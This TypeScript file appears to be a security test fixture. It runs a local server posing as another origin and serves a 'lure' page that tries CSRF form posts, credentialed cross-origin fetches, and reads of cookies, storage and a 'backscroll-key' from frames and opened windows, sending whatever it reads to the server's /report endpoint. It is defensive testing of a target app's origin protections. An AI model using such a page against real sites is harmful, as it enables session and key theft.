import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'

/** A server of somebody else on another port of the same host: it keeps whatever comes. */
export interface OtherServer {
  readonly port: number
  readonly origin: string
  readonly received: readonly Received[]
  close(): Promise<void>
}

export interface Received {
  readonly method: string
  readonly url: string
  /** Name and value in turn, as they came. */
  readonly headers: readonly string[]
  readonly body: string
}

/** `target`: the origin that its page is after. */
export async function startOtherServer(target: () => string): Promise<OtherServer> {
  const received: Received[] = []
  const server = createServer(async (incoming, outgoing) => {
    const { method = '', url = '', rawHeaders } = incoming
    received.push({ method, url, headers: rawHeaders, body: await readAll(incoming) })
    if (url.startsWith('/bounce')) return void outgoing.writeHead(302, { Location: `${target()}/usage` }).end()
    outgoing.setHeader('Content-Type', 'text/html')
    // Whatever the other origin says, this one would take it all.
    outgoing.setHeader('Access-Control-Allow-Origin', target())
    outgoing.setHeader('Access-Control-Allow-Credentials', 'true')
    outgoing.end(url.startsWith('/lure') ? lure(target()) : 'ok')
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    port,
    origin: `http://127.0.0.1:${port}`,
    received,
    close: () =>
      new Promise(resolve => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  }
}

async function readAll(incoming: IncomingMessage): Promise<string> {
  let text = ''
  for await (const chunk of incoming.setEncoding('utf8')) text += chunk
  return text
}

/** Tries all that a page can do to get at another origin, and reports what it could read. */
function lure(target: string): string {
  return `<!doctype html><title>lure</title>
<img src="${target}/api/v1/about"><img src="${target}/">
<iframe id="framed" src="${target}/"></iframe>
<iframe name="sink"></iframe>
<form id="form" method="post" action="${target}/api/v1/sync" target="sink" enctype="text/plain"><input name='{"a":"' value='"}'></form>
<button id="open">open</button>
<script>
const seen = []
const attempt = async (name, act) => {
  try { seen.push(name + ': ' + await act()) } catch (error) { seen.push(name + ' failed') }
}
const read = (path, options) => async () => (await fetch('${target}' + path, options)).text()
const all = async opened => {
  await attempt('get', read('/api/v1/about', { credentials: 'include' }))
  await attempt('blind get', read('/api/v1/about', { credentials: 'include', mode: 'no-cors' }))
  await attempt('post', read('/api/v1/sync', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{}' }))
  await attempt('blind post', read('/api/v1/sync', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' }))
  await attempt('shell', read('/', { credentials: 'include' }))
  await attempt('code', read('/api/v1/key', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{"code":"x"}' }))
  await attempt('cookie', () => document.cookie)
  await attempt('storage', () => JSON.stringify(localStorage) + JSON.stringify(sessionStorage))
  await attempt('referrer', () => document.referrer)
  await attempt('frame', () => document.getElementById('framed').contentWindow.localStorage.getItem('backscroll-key'))
  await attempt('window', () => opened.localStorage.getItem('backscroll-key'))
  await attempt('address', () => opened.location.href)
  await attempt('opener', () => window.opener.location.href)
  document.getElementById('form').submit()
  await fetch('/report', { method: 'POST', body: seen.join('\\n') })
  document.title = 'reported'
}
document.getElementById('open').addEventListener('click', () => void all(window.open('${target}/')))
</script>`
}
